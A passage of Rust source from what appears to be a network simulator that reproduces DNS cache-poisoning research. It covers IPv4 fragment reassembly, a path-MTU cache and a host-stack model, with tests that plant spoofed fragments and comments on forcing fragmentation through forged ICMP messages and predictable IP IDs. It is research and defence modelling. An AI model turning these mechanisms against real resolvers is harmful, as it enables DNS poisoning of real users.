        let timeout = self.config.timeout;
        self.pending.retain(|_, p| now.duration_since(p.created) < timeout);
    }

    /// Offers a fragment (or a whole packet) to the reassembler.
    ///
    /// Whole (unfragmented) packets are returned as complete immediately.
    pub fn push(&mut self, pkt: &Ipv4Packet, now: SimTime) -> ReassemblyResult {
        if !pkt.header.is_fragment() {
            return ReassemblyResult::Complete(pkt.clone());
        }
        self.expire(now);
        let key = FragKey::of(pkt);
        let offset = pkt.header.payload_byte_offset();
        if offset + pkt.payload.len() > self.config.max_datagram_size {
            self.dropped += 1;
            return ReassemblyResult::Dropped(DropReason::TooLarge);
        }
        if !self.pending.contains_key(&key) && self.pending.len() >= self.config.max_pending {
            self.dropped += 1;
            return ReassemblyResult::Dropped(DropReason::BufferFull);
        }
        let entry = self.pending.entry(key).or_insert_with(|| PendingDatagram::new(now));

        // Record first-fragment header and total length.
        if offset == 0 {
            entry.first_header.get_or_insert(pkt.header);
        }
        if !pkt.header.more_fragments {
            entry.total_len.get_or_insert(offset + pkt.payload.len());
        }

        // Overlap / duplicate handling.
        let overlaps = entry.fragments.iter().any(|(&off, data)| {
            let (a1, a2) = (off, off + data.len());
            let (b1, b2) = (offset, offset + pkt.payload.len());
            a1 < b2 && b1 < a2
        });
        if overlaps {
            match self.config.overlap {
                OverlapPolicy::Reject => {
                    self.pending.remove(&key);
                    self.dropped += 1;
                    return ReassemblyResult::Dropped(DropReason::Overlap);
                }
                OverlapPolicy::FirstWins => {
                    // Keep existing bytes; only fill offsets not already held.
                    if let Entry::Vacant(v) = entry.fragments.entry(offset) {
                        // Same range start not present: store but the earlier
                        // overlapping bytes still win at reassembly because we
                        // copy in ascending offset order and earlier fragments
                        // already claimed those offsets. To keep semantics
                        // simple we only store non-overlapping starts.
                        v.insert(pkt.payload.clone());
                    } else {
                        self.dropped += 1;
                        if entry.coverage_complete() {
                            let packet = entry.reassemble(key);
                            self.pending.remove(&key);
                            self.completed += 1;
                            return ReassemblyResult::Complete(packet);
                        }
                        return ReassemblyResult::Dropped(DropReason::Duplicate);
                    }
                }
            }
        } else {
            entry.fragments.insert(offset, pkt.payload.clone());
        }

        if entry.coverage_complete() {
            let packet = entry.reassemble(key);
            self.pending.remove(&key);
            self.completed += 1;
            ReassemblyResult::Complete(packet)
        } else {
            ReassemblyResult::Pending
        }
    }
}

impl Default for ReassemblyBuffer {
    fn default() -> Self {
        ReassemblyBuffer::new(ReassemblyConfig::default())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ipv4::Protocol;
    use crate::udp::UdpDatagram;

    fn big_udp_packet(payload_len: usize, id: u16) -> Ipv4Packet {
        UdpDatagram::new(
            "198.51.100.53".parse().unwrap(),
            "192.0.2.1".parse().unwrap(),
            53,
            34567,
            vec![0x5a; payload_len],
        )
        .into_packet(id, 64)
    }

    #[test]
    fn fragmentation_respects_mtu_and_alignment() {
        let pkt = big_udp_packet(1400, 1);
        let frags = fragment_packet(&pkt, 576);
        assert!(frags.len() >= 3);
        for (i, f) in frags.iter().enumerate() {
            assert!(f.wire_len() <= 576);
            if i + 1 < frags.len() {
                assert!(f.header.more_fragments);
                assert_eq!(f.payload.len() % 8, 0);
            } else {
                assert!(!f.header.more_fragments);
            }
        }
        // Offsets must tile the payload exactly.
        let total: usize = frags.iter().map(|f| f.payload.len()).sum();
        assert_eq!(total, pkt.payload.len());
    }

    #[test]
    fn fragmentation_reassembly_roundtrip_sweep() {
        // Exhaustive-ish round-trip over payload sizes spanning the
        // interesting boundaries (sub-MTU, exactly one fragment payload,
        // one byte over, multi-fragment) and the MTUs the attacks force.
        let mtus = [68u16, 548, 576, 1500];
        let sizes = [1usize, 7, 8, 9, 100, 520, 548, 1472, 1473, 2999];
        for &mtu in &mtus {
            for &size in &sizes {
                let pkt = big_udp_packet(size, 42);
                let frags = fragment_packet(&pkt, mtu);
                if frags.len() > 1 {
                    for f in &frags {
                        assert!(f.wire_len() <= usize::from(mtu), "mtu={mtu} size={size}");
                    }
                }
                // Fragment offsets are 8-aligned and tile the payload exactly.
                let mut expected_offset = 0usize;
                for f in &frags {
                    assert_eq!(usize::from(f.header.fragment_offset) * 8, expected_offset, "mtu={mtu} size={size}");
                    expected_offset += f.payload.len();
                }
                assert_eq!(expected_offset, pkt.payload.len(), "mtu={mtu} size={size}");
                // Reassembly in reverse arrival order is still the identity.
                let mut buf = ReassemblyBuffer::default();
                let mut out = None;
                for f in frags.iter().rev() {
                    if let ReassemblyResult::Complete(p) = buf.push(f, SimTime::ZERO) {
                        out = Some(p);
                    }
                }
                let reassembled = out.expect("reassembly completes");
                assert_eq!(reassembled.payload, pkt.payload, "mtu={mtu} size={size}");
                assert_eq!(reassembled.header.total_length, pkt.header.total_length, "mtu={mtu} size={size}");
            }
        }
    }

    #[test]
    fn small_packet_not_fragmented() {
        let pkt = big_udp_packet(100, 2);
        let frags = fragment_packet(&pkt, 1500);
        assert_eq!(frags.len(), 1);
        assert_eq!(frags[0], pkt);
    }

    #[test]
    fn reassembly_roundtrip_in_order() {
        let pkt = big_udp_packet(3000, 3);
        let frags = fragment_packet(&pkt, 576);
        let mut buf = ReassemblyBuffer::default();
        let mut result = None;
        for f in &frags {
            match buf.push(f, SimTime::ZERO) {
                ReassemblyResult::Complete(p) => result = Some(p),
                ReassemblyResult::Pending => {}
                ReassemblyResult::Dropped(r) => panic!("unexpected drop {r:?}"),
            }
        }
        let reassembled = result.expect("datagram completed");
        assert_eq!(reassembled.payload, pkt.payload);
        assert_eq!(buf.completed, 1);
        assert_eq!(buf.pending_count(), 0);
    }

    #[test]
    fn reassembly_roundtrip_out_of_order() {
        let pkt = big_udp_packet(2000, 4);
        let mut frags = fragment_packet(&pkt, 576);
        frags.reverse();
        let mut buf = ReassemblyBuffer::default();
        let mut complete = None;
        for f in &frags {
            if let ReassemblyResult::Complete(p) = buf.push(f, SimTime::ZERO) {
                complete = Some(p);
            }
        }
        assert_eq!(complete.unwrap().payload, pkt.payload);
    }

    #[test]
    fn planted_spoofed_second_fragment_wins_first_wins_policy() {
        // The FragDNS core mechanism: the attacker's fake second fragment is
        // already in the cache when the genuine first fragment arrives; the
        // genuine second fragment arriving later is treated as a duplicate.
        let genuine = big_udp_packet(1200, 0x4242);
        let frags = fragment_packet(&genuine, 576);
        assert_eq!(frags.len(), 3);

        // Attacker crafts replacements for fragments 2 and 3 with its payload.
        let mut spoofed2 = frags[1].clone();
        spoofed2.payload = vec![0xEE; spoofed2.payload.len()];
        let mut spoofed3 = frags[2].clone();
        spoofed3.payload = vec![0xEE; spoofed3.payload.len()];

        let mut buf = ReassemblyBuffer::default();
        assert_eq!(buf.push(&spoofed2, SimTime::ZERO), ReassemblyResult::Pending);
        assert_eq!(buf.push(&spoofed3, SimTime::ZERO), ReassemblyResult::Pending);
        // Genuine first fragment arrives and completes the datagram with the
        // attacker's tail.
        let out = match buf.push(&frags[0], SimTime::ZERO) {
            ReassemblyResult::Complete(p) => p,
            other => panic!("expected completion, got {other:?}"),
        };
        assert_eq!(&out.payload[..frags[0].payload.len()], &frags[0].payload[..]);
        assert!(out.payload[frags[0].payload.len()..].iter().all(|&b| b == 0xEE));
    }

    #[test]
    fn reject_policy_discards_on_overlap() {
        let genuine = big_udp_packet(1200, 7);
        let frags = fragment_packet(&genuine, 576);
        let mut spoof = frags[1].clone();
        spoof.payload = vec![0xEE; spoof.payload.len()];
        let mut buf = ReassemblyBuffer::new(ReassemblyConfig { overlap: OverlapPolicy::Reject, ..Default::default() });
        assert_eq!(buf.push(&frags[1], SimTime::ZERO), ReassemblyResult::Pending);
        assert_eq!(buf.push(&spoof, SimTime::ZERO), ReassemblyResult::Dropped(DropReason::Overlap));
        assert_eq!(buf.pending_count(), 0);
    }

    #[test]
    fn buffer_capacity_enforced() {
        let mut buf = ReassemblyBuffer::new(ReassemblyConfig { max_pending: 4, ..Default::default() });
        for id in 0..4u16 {
            let pkt = big_udp_packet(1200, id);
            let frags = fragment_packet(&pkt, 576);
            assert_eq!(buf.push(&frags[1], SimTime::ZERO), ReassemblyResult::Pending);
        }
        let pkt = big_udp_packet(1200, 99);
        let frags = fragment_packet(&pkt, 576);
        assert_eq!(buf.push(&frags[1], SimTime::ZERO), ReassemblyResult::Dropped(DropReason::BufferFull));
        assert_eq!(buf.pending_count(), 4);
    }

    #[test]
    fn pending_fragments_expire() {
        let pkt = big_udp_packet(1200, 11);
        let frags = fragment_packet(&pkt, 576);
        let mut buf = ReassemblyBuffer::default();
        buf.push(&frags[1], SimTime::ZERO);
        assert_eq!(buf.pending_count(), 1);
        buf.expire(SimTime::ZERO + Duration::from_secs(31));
        assert_eq!(buf.pending_count(), 0);
    }

    #[test]
    fn different_identifications_do_not_mix() {
        let a = big_udp_packet(1200, 100);
        let b = big_udp_packet(1200, 200);
        let fa = fragment_packet(&a, 576);
        let fb = fragment_packet(&b, 576);
        let mut buf = ReassemblyBuffer::default();
        buf.push(&fa[0], SimTime::ZERO);
        // Offering b's tail fragments never completes a's datagram.
        for f in &fb[1..] {
            assert!(matches!(buf.push(f, SimTime::ZERO), ReassemblyResult::Pending));
        }
        assert_eq!(buf.pending_count(), 2);
        assert!(buf.has_pending(a.header.src, a.header.dst, Protocol::Udp.number(), 100));
        assert!(buf.has_pending(b.header.src, b.header.dst, Protocol::Udp.number(), 200));
    }

    #[test]
    fn reassembled_fragments_still_pass_udp_checksum() {
        let pkt = big_udp_packet(2500, 77);
        let frags = fragment_packet(&pkt, 576);
        let mut buf = ReassemblyBuffer::default();
        let mut complete = None;
        for f in &frags {
            if let ReassemblyResult::Complete(p) = buf.push(f, SimTime::ZERO) {
                complete = Some(p);
            }
        }
        let out = complete.unwrap();
        let dgram = UdpDatagram::from_packet(&out).expect("checksum must verify after reassembly");
        assert_eq!(dgram.payload.len(), 2500);
    }
}
