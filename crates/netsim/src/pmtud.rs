//! Path MTU discovery state (RFC 1191).
//!
//! FragDNS forces a nameserver to fragment its DNS responses by spoofing an
//! ICMP "fragmentation needed" error that advertises a tiny next-hop MTU.
//! The nameserver's OS records that MTU in its per-destination path-MTU
//! cache; subsequent responses to the victim resolver are then emitted as
//! multiple fragments, giving the attacker a second fragment to replace.
//!
//! Hosts can be configured to ignore PMTUD signals below a *minimum accepted
//! MTU* — the "filter small fragments" countermeasure discussed in Section 6
//! (e.g. Google's public resolver only accepts fragments above a threshold).

use crate::ipv4::{DEFAULT_MTU, MIN_IPV4_MTU};
use crate::time::{Duration, SimTime};
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::net::Ipv4Addr;

/// Per-destination path MTU cache.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct PathMtuCache {
    /// MTU assumed when no entry exists.
    pub default_mtu: u16,
    /// The smallest MTU this host is willing to accept from an ICMP
    /// fragmentation-needed message. Linux clamps at 552 by default for
    /// `min_pmtu`, but honours lower values for the purpose of *fragmenting
    /// locally generated UDP*, which is what matters for DNS; we model the
    /// accept-threshold explicitly so hardened hosts can refuse tiny MTUs.
    pub min_accepted_mtu: u16,
    /// How long a learned entry remains valid (RFC 1191 suggests 10 minutes).
    pub entry_lifetime: Duration,
    entries: HashMap<Ipv4Addr, (u16, SimTime)>,
}

impl PathMtuCache {
    /// A cache with the conventional Ethernet default MTU that accepts any
    /// MTU down to the IPv4 minimum of 68 bytes (vulnerable default).
    pub fn new() -> Self {
        PathMtuCache {
            default_mtu: DEFAULT_MTU,
            min_accepted_mtu: MIN_IPV4_MTU,
            entry_lifetime: Duration::from_secs(600),
            entries: HashMap::new(),
        }
    }

    /// A hardened cache that refuses to lower the path MTU below `threshold`
    /// (models operators that filter small fragments / ignore tiny PTBs).
    pub fn with_min_accepted(threshold: u16) -> Self {
        PathMtuCache { min_accepted_mtu: threshold, ..PathMtuCache::new() }
    }

    /// Handles an ICMP fragmentation-needed signal for `dst` advertising
    /// `mtu`. Returns `true` when the cache accepted (and lowered) the entry.
    pub fn on_fragmentation_needed(&mut self, dst: Ipv4Addr, mtu: u16, now: SimTime) -> bool {
        let clamped = mtu.max(MIN_IPV4_MTU);
        if clamped < self.min_accepted_mtu {
            return false;
        }
        let current = self.mtu_for(dst, now);
        if clamped < current {
            self.entries.insert(dst, (clamped, now));
            true
        } else {
            false
        }
    }

    /// The MTU currently assumed towards `dst`.
    pub fn mtu_for(&self, dst: Ipv4Addr, now: SimTime) -> u16 {
        match self.entries.get(&dst) {
            Some(&(mtu, learned)) if now.duration_since(learned) < self.entry_lifetime => mtu,
            _ => self.default_mtu,
        }
    }

    /// Whether a (non-expired) learned entry exists for `dst`.
    pub fn has_entry(&self, dst: Ipv4Addr, now: SimTime) -> bool {
        self.mtu_for(dst, now) != self.default_mtu
    }

    /// Drops expired entries.
    pub fn expire(&mut self, now: SimTime) {
        let lifetime = self.entry_lifetime;
        self.entries.retain(|_, &mut (_, learned)| now.duration_since(learned) < lifetime);
    }

    /// Number of live entries (after lazily expiring nothing — callers that
    /// care should call [`PathMtuCache::expire`] first).
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Whether the cache has no entries.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }
}

impl Default for PathMtuCache {
    fn default() -> Self {
        PathMtuCache::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const DST: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 1);

    #[test]
    fn default_mtu_until_signal() {
        let cache = PathMtuCache::new();
        assert_eq!(cache.mtu_for(DST, SimTime::ZERO), DEFAULT_MTU);
        assert!(cache.is_empty());
    }

    #[test]
    fn accepts_lower_mtu_signal() {
        let mut cache = PathMtuCache::new();
        assert!(cache.on_fragmentation_needed(DST, 548, SimTime::ZERO));
        assert_eq!(cache.mtu_for(DST, SimTime::ZERO), 548);
        assert!(cache.has_entry(DST, SimTime::ZERO));
        assert_eq!(cache.len(), 1);
    }

    #[test]
    fn clamps_to_protocol_minimum() {
        let mut cache = PathMtuCache::new();
        assert!(cache.on_fragmentation_needed(DST, 10, SimTime::ZERO));
        assert_eq!(cache.mtu_for(DST, SimTime::ZERO), MIN_IPV4_MTU);
    }

    #[test]
    fn ignores_increases() {
        let mut cache = PathMtuCache::new();
        cache.on_fragmentation_needed(DST, 548, SimTime::ZERO);
        assert!(!cache.on_fragmentation_needed(DST, 1400, SimTime::ZERO));
        assert_eq!(cache.mtu_for(DST, SimTime::ZERO), 548);
    }

    #[test]
    fn hardened_host_refuses_tiny_mtu() {
        let mut cache = PathMtuCache::with_min_accepted(1280);
        assert!(!cache.on_fragmentation_needed(DST, 296, SimTime::ZERO));
        assert_eq!(cache.mtu_for(DST, SimTime::ZERO), DEFAULT_MTU);
        // But a moderate reduction above the threshold is accepted.
        assert!(cache.on_fragmentation_needed(DST, 1400, SimTime::ZERO));
    }

    #[test]
    fn entries_expire() {
        let mut cache = PathMtuCache::new();
        cache.on_fragmentation_needed(DST, 548, SimTime::ZERO);
        let later = SimTime::ZERO + Duration::from_secs(601);
        assert_eq!(cache.mtu_for(DST, later), DEFAULT_MTU);
        cache.expire(later);
        assert!(cache.is_empty());
    }
}
