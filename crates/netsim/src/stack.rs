//! A minimal OS network-stack model shared by all simulated hosts.
//!
//! [`HostStack`] bundles the operating-system behaviours the paper's attacks
//! interact with: UDP and TCP port state, ICMP port-unreachable generation
//! (with the configurable rate-limit policy SadDNS probes), TCP RST
//! generation for closed ports, the IPv4 defragmentation cache FragDNS
//! poisons, path-MTU discovery, and the IP identification assignment policy
//! whose predictability decides the FragDNS hit rate. DNS resolvers,
//! nameservers, application servers and attacker hosts in the higher-level
//! crates all embed a `HostStack` and feed packets through
//! [`HostStack::handle_packet`]; transport state above the port table lives
//! in the sockets of [`crate::transport`] and [`crate::tcp`].

use crate::frag::fragment_packet;
use crate::frag::{ReassemblyBuffer, ReassemblyConfig, ReassemblyResult};
use crate::icmp::{IcmpMessage, Unreachable};
use crate::ipv4::{Ipv4Packet, Protocol, DEFAULT_MTU, MIN_IPV4_MTU};
use crate::pmtud::PathMtuCache;
use crate::ratelimit::{IcmpRateLimitPolicy, IcmpRateLimiter};
use crate::tcp::{rst_reply, TcpSegment, TCP_HEADER_LEN};
use crate::time::SimTime;
use crate::udp::UdpDatagram;
use rand::Rng;
use serde::{Deserialize, Serialize};
use std::collections::HashSet;
use std::net::Ipv4Addr;

/// How a host assigns IPv4 identification values to outgoing packets.
///
/// The paper (Section 4.4.3 / 5.3.2) distinguishes nameservers with a single
/// **global incremental** counter (predictable: the attacker samples it and
/// extrapolates — median hit rate ≈ 20 %), **per-destination** counters
/// (predictable only with an on-path vantage) and **random** IPIDs
/// (hit rate ≈ 1/1024 with a 64-entry defragmentation cache).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum IpIdPolicy {
    /// One counter shared by all destinations, incremented per packet.
    GlobalCounter,
    /// One counter per destination address.
    PerDestination,
    /// Uniformly random identification values.
    Random,
}

/// Configuration for a [`UdpStack`].
#[derive(Debug, Clone)]
pub struct StackConfig {
    /// TTL placed in outgoing packets.
    pub ttl: u8,
    /// ICMP error rate-limiting policy (the SadDNS side channel lives here).
    pub icmp_rate_limit: IcmpRateLimitPolicy,
    /// IP identification assignment policy.
    pub ipid_policy: IpIdPolicy,
    /// Defragmentation cache configuration.
    pub reassembly: ReassemblyConfig,
    /// Whether the host answers ICMP echo requests.
    pub respond_to_ping: bool,
    /// Whether the host honours ICMP fragmentation-needed (PMTUD) at all.
    pub pmtud_enabled: bool,
    /// Minimum path MTU the host will accept from a fragmentation-needed
    /// message (hardened hosts refuse tiny values).
    pub min_accepted_mtu: u16,
    /// Whether incoming IP fragments are accepted at all. Resolver operators
    /// that "block fragmented responses in firewalls" (Section 6) set this to
    /// `false`, defeating FragDNS.
    pub accept_fragments: bool,
}

impl Default for StackConfig {
    fn default() -> Self {
        StackConfig {
            ttl: 64,
            icmp_rate_limit: IcmpRateLimitPolicy::linux_default(),
            ipid_policy: IpIdPolicy::GlobalCounter,
            reassembly: ReassemblyConfig::default(),
            respond_to_ping: true,
            pmtud_enabled: true,
            min_accepted_mtu: MIN_IPV4_MTU,
            accept_fragments: true,
        }
    }
}

/// Events surfaced to the application layer by [`HostStack::handle_packet`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum StackEvent {
    /// A (reassembled, checksum-valid) UDP datagram addressed to an open port.
    Udp(UdpDatagram),
    /// A checksum-valid TCP segment addressed to an open TCP port; connection
    /// state is kept by the [`TcpSocket`](crate::tcp::TcpSocket) bound there.
    Tcp(TcpSegment),
    /// A TCP segment arrived at a closed port (the stack answered with RST).
    TcpClosedPort {
        /// Source of the segment.
        from: Ipv4Addr,
        /// The closed destination port.
        port: u16,
        /// Whether an RST was emitted (never for incoming RSTs).
        rst_sent: bool,
    },
    /// An ICMP destination-unreachable error was received; `quoted_ports` are
    /// the (src, dst) UDP ports of the quoted offending datagram, if any.
    IcmpError {
        /// Sender of the ICMP error.
        from: Ipv4Addr,
        /// Which unreachable condition was reported.
        kind: Unreachable,
        /// Ports quoted from the offending datagram.
        quoted_ports: Option<(u16, u16)>,
    },
    /// An ICMP echo reply was received (used by liveness probes).
    EchoReply {
        /// Responder address.
        from: Ipv4Addr,
        /// Echo identifier.
        id: u16,
        /// Echo sequence number.
        seq: u16,
    },
    /// An ICMP echo request was received and (if configured) answered.
    EchoRequest {
        /// Requester address.
        from: Ipv4Addr,
    },
    /// The path MTU towards `dst` was lowered to `mtu` by a
    /// fragmentation-needed message.
    PmtuUpdate {
        /// Destination whose path MTU changed.
        dst: Ipv4Addr,
        /// New path MTU.
        mtu: u16,
    },
    /// A UDP datagram arrived at a closed port (the stack may have generated
    /// an ICMP port-unreachable, subject to rate limiting).
    ClosedPort {
        /// Source of the datagram.
        from: Ipv4Addr,
        /// The closed destination port.
        port: u16,
        /// Whether an ICMP error was actually emitted (rate limit permitting).
        icmp_sent: bool,
    },
    /// A datagram or fragment was dropped (bad checksum, fragment rejected...).
    Dropped(&'static str),
}

/// The result of feeding one packet into the stack: zero or more application
/// events plus zero or more reply packets that must be transmitted.
#[derive(Debug, Clone, Default)]
pub struct StackOutput {
    /// Events for the application layer.
    pub events: Vec<StackEvent>,
    /// Packets the stack wants to send in response (ICMP errors, echo replies).
    pub replies: Vec<Ipv4Packet>,
}

/// The per-host stack state.
///
/// Historically named `UdpStack` (an alias is kept): since the transport
/// refactor it also owns the TCP port table and the TCP packetisation path,
/// with connection state living in [`crate::tcp::TcpSocket`].
#[derive(Debug)]
pub struct HostStack {
    /// Addresses owned by this host.
    pub addresses: Vec<Ipv4Addr>,
    config: StackConfig,
    open_ports: HashSet<u16>,
    open_tcp_ports: HashSet<u16>,
    reassembly: ReassemblyBuffer,
    icmp_limiter: IcmpRateLimiter,
    pmtu: PathMtuCache,
    global_ipid: u16,
    per_dest_ipid: std::collections::HashMap<Ipv4Addr, u16>,
}

/// Back-compat alias from before the transport-layer refactor, when the
/// stack only spoke UDP/ICMP.
pub type UdpStack = HostStack;

impl HostStack {
    /// Creates a stack owning the given addresses.
    pub fn new(addresses: Vec<Ipv4Addr>, config: StackConfig) -> Self {
        let mut pmtu = PathMtuCache::with_min_accepted(config.min_accepted_mtu.max(MIN_IPV4_MTU));
        pmtu.default_mtu = DEFAULT_MTU;
        HostStack {
            addresses,
            icmp_limiter: IcmpRateLimiter::new(config.icmp_rate_limit),
            reassembly: ReassemblyBuffer::new(config.reassembly),
            pmtu,
            open_ports: HashSet::new(),
            open_tcp_ports: HashSet::new(),
            global_ipid: 1,
            per_dest_ipid: std::collections::HashMap::new(),
            config,
        }
    }

    /// Creates a stack with default configuration.
    pub fn with_defaults(addresses: Vec<Ipv4Addr>) -> Self {
        HostStack::new(addresses, StackConfig::default())
    }

    /// The primary (first) address of this host.
    pub fn primary_addr(&self) -> Ipv4Addr {
        self.addresses.first().copied().unwrap_or(Ipv4Addr::UNSPECIFIED)
    }

    /// Whether `addr` is owned by this host.
    pub fn owns(&self, addr: Ipv4Addr) -> bool {
        self.addresses.contains(&addr)
    }

    /// Opens a UDP port (e.g. 53 on a nameserver, an ephemeral port on a
    /// resolver while a query is outstanding).
    pub fn open_port(&mut self, port: u16) {
        self.open_ports.insert(port);
    }

    /// Closes a UDP port.
    pub fn close_port(&mut self, port: u16) {
        self.open_ports.remove(&port);
    }

    /// Whether a port is currently open.
    pub fn is_port_open(&self, port: u16) -> bool {
        self.open_ports.contains(&port)
    }

    /// Number of currently open ports.
    pub fn open_port_count(&self) -> usize {
        self.open_ports.len()
    }

    /// Opens a TCP port (53 on a nameserver, the client port of a resolver's
    /// upstream connections). The TCP and UDP port spaces are independent.
    pub fn open_tcp_port(&mut self, port: u16) {
        self.open_tcp_ports.insert(port);
    }

    /// Closes a TCP port.
    pub fn close_tcp_port(&mut self, port: u16) {
        self.open_tcp_ports.remove(&port);
    }

    /// Whether a TCP port is currently open.
    pub fn is_tcp_port_open(&self, port: u16) -> bool {
        self.open_tcp_ports.contains(&port)
    }

    /// Read access to the stack configuration.
    pub fn config(&self) -> &StackConfig {
        &self.config
    }

    /// Read access to the path-MTU cache.
    pub fn pmtu(&self) -> &PathMtuCache {
        &self.pmtu
    }

    /// Read access to the ICMP rate limiter (for measurement instrumentation).
    pub fn icmp_limiter(&self) -> &IcmpRateLimiter {
        &self.icmp_limiter
    }

    /// Read access to the defragmentation cache.
    pub fn reassembly(&self) -> &ReassemblyBuffer {
        &self.reassembly
    }

    /// Allocates the IP identification for a packet towards `dst` according
    /// to the configured policy.
    pub fn next_ipid<R: Rng>(&mut self, dst: Ipv4Addr, rng: &mut R) -> u16 {
        match self.config.ipid_policy {
            IpIdPolicy::GlobalCounter => {
                let id = self.global_ipid;
                self.global_ipid = self.global_ipid.wrapping_add(1);
                id
            }
            IpIdPolicy::PerDestination => {
                let counter = self.per_dest_ipid.entry(dst).or_insert(1);
                let id = *counter;
                *counter = counter.wrapping_add(1);
                id
            }
            IpIdPolicy::Random => rng.gen(),
        }
    }

    /// Peeks at the value the *next* global-counter IPID would have — used by
    /// the FragDNS measurement probe that samples a nameserver's counter.
    pub fn peek_global_ipid(&self) -> u16 {
        self.global_ipid
    }

    /// Builds (and, if the path MTU towards the destination requires it,
    /// fragments) a UDP datagram originating from this host.
    pub fn send_udp<R: Rng>(&mut self, dgram: UdpDatagram, now: SimTime, rng: &mut R) -> Vec<Ipv4Packet> {
        let dst = dgram.dst;
        let ipid = self.next_ipid(dst, rng);
        let pkt = dgram.into_packet(ipid, self.config.ttl);
        let mtu = if self.config.pmtud_enabled { self.pmtu.mtu_for(dst, now) } else { DEFAULT_MTU };
        if pkt.wire_len() > usize::from(mtu) {
            fragment_packet(&pkt, mtu)
        } else {
            vec![pkt]
        }
    }

    /// The maximum TCP segment size towards `dst`: the current path MTU
    /// minus the IPv4 and TCP headers. TCP sets DF, so sizing segments to
    /// the path MTU is what keeps the stream unfragmentable — the structural
    /// reason DNS over TCP defeats fragmentation-based poisoning.
    pub fn tcp_mss_for(&self, dst: Ipv4Addr, now: SimTime) -> u16 {
        let mtu = if self.config.pmtud_enabled { self.pmtu.mtu_for(dst, now) } else { DEFAULT_MTU };
        mtu.saturating_sub((crate::ipv4::IPV4_HEADER_LEN + TCP_HEADER_LEN) as u16).max(1)
    }

    /// Builds the IPv4 packet for a TCP segment originating from this host
    /// (IP-ID per policy, DF always set).
    pub fn send_tcp<R: Rng>(&mut self, seg: TcpSegment, _now: SimTime, rng: &mut R) -> Ipv4Packet {
        let dst = seg.dst;
        let ipid = self.next_ipid(dst, rng);
        seg.into_packet(ipid, self.config.ttl)
    }

    /// Builds an ICMP echo request towards `dst`.
    pub fn send_ping<R: Rng>(&mut self, src: Ipv4Addr, dst: Ipv4Addr, id: u16, seq: u16, rng: &mut R) -> Ipv4Packet {
        let ipid = self.next_ipid(dst, rng);
        IcmpMessage::EchoRequest { id, seq, payload: vec![] }.into_packet(src, dst, ipid, self.config.ttl)
    }

    /// Feeds one received IPv4 packet through the stack.
    pub fn handle_packet<R: Rng>(&mut self, pkt: &Ipv4Packet, now: SimTime, rng: &mut R) -> StackOutput {
        let mut out = StackOutput::default();
        if !self.owns(pkt.header.dst) {
            out.events.push(StackEvent::Dropped("not addressed to this host"));
            return out;
        }

        // 1. Reassembly of fragments. Whole packets are processed in place —
        // cloning a borrowed packet per delivery is exactly the per-packet
        // churn the buffer pool exists to avoid.
        let reassembled;
        let full: &Ipv4Packet = if pkt.header.is_fragment() {
            if !self.config.accept_fragments {
                out.events.push(StackEvent::Dropped("fragments filtered"));
                return out;
            }
            match self.reassembly.push(pkt, now) {
                ReassemblyResult::Complete(p) => {
                    reassembled = p;
                    &reassembled
                }
                ReassemblyResult::Pending => return out,
                ReassemblyResult::Dropped(_) => {
                    out.events.push(StackEvent::Dropped("fragment dropped"));
                    return out;
                }
            }
        } else {
            pkt
        };

        match full.header.protocol {
            Protocol::Udp => self.handle_udp(full, now, rng, &mut out),
            Protocol::Tcp => self.handle_tcp(full, rng, &mut out),
            Protocol::Icmp => self.handle_icmp(full, now, rng, &mut out),
            _ => out.events.push(StackEvent::Dropped("unsupported protocol")),
        }
        out
    }

    fn handle_tcp<R: Rng>(&mut self, pkt: &Ipv4Packet, rng: &mut R, out: &mut StackOutput) {
        match TcpSegment::from_packet(pkt) {
            Ok(seg) => {
                if self.open_tcp_ports.contains(&seg.dst_port) {
                    out.events.push(StackEvent::Tcp(seg));
                } else {
                    // RFC 793 §3.4: segments to closed ports are reset (RSTs
                    // are not subject to the ICMP error rate limit — one
                    // reason the TCP path has no SadDNS-style muting oracle).
                    let rst = rst_reply(&seg);
                    let rst_sent = rst.is_some();
                    if let Some(rst) = rst {
                        let ipid = self.next_ipid(rst.dst, rng);
                        out.replies.push(rst.into_packet(ipid, self.config.ttl));
                    }
                    out.events.push(StackEvent::TcpClosedPort { from: seg.src, port: seg.dst_port, rst_sent });
                }
            }
            Err(_) => out.events.push(StackEvent::Dropped("tcp checksum/format error")),
        }
    }

    fn handle_udp<R: Rng>(&mut self, pkt: &Ipv4Packet, now: SimTime, rng: &mut R, out: &mut StackOutput) {
        match UdpDatagram::from_packet(pkt) {
            Ok(dgram) => {
                if self.open_ports.contains(&dgram.dst_port) {
                    out.events.push(StackEvent::Udp(dgram));
                } else {
                    let allowed = self.icmp_limiter.allow(dgram.src, now);
                    if allowed {
                        let ipid = self.next_ipid(dgram.src, rng);
                        let reply = IcmpMessage::port_unreachable(pkt).into_packet(
                            pkt.header.dst,
                            pkt.header.src,
                            ipid,
                            self.config.ttl,
                        );
                        out.replies.push(reply);
                    }
                    out.events.push(StackEvent::ClosedPort {
                        from: dgram.src,
                        port: dgram.dst_port,
                        icmp_sent: allowed,
                    });
                }
            }
            Err(_) => out.events.push(StackEvent::Dropped("udp checksum/format error")),
        }
    }

    fn handle_icmp<R: Rng>(&mut self, pkt: &Ipv4Packet, now: SimTime, rng: &mut R, out: &mut StackOutput) {
        let Ok(msg) = IcmpMessage::decode(&pkt.payload) else {
            out.events.push(StackEvent::Dropped("icmp format error"));
            return;
        };
        match msg {
            IcmpMessage::EchoRequest { id, seq, payload } => {
                out.events.push(StackEvent::EchoRequest { from: pkt.header.src });
                if self.config.respond_to_ping {
                    let ipid = self.next_ipid(pkt.header.src, rng);
                    let reply = IcmpMessage::EchoReply { id, seq, payload }.into_packet(
                        pkt.header.dst,
                        pkt.header.src,
                        ipid,
                        self.config.ttl,
                    );
                    out.replies.push(reply);
                }
            }
            IcmpMessage::EchoReply { id, seq, .. } => {
                out.events.push(StackEvent::EchoReply { from: pkt.header.src, id, seq });
            }
            IcmpMessage::DestinationUnreachable { kind, .. } => {
                let quoted_ports = msg_quoted_ports(&pkt.payload);
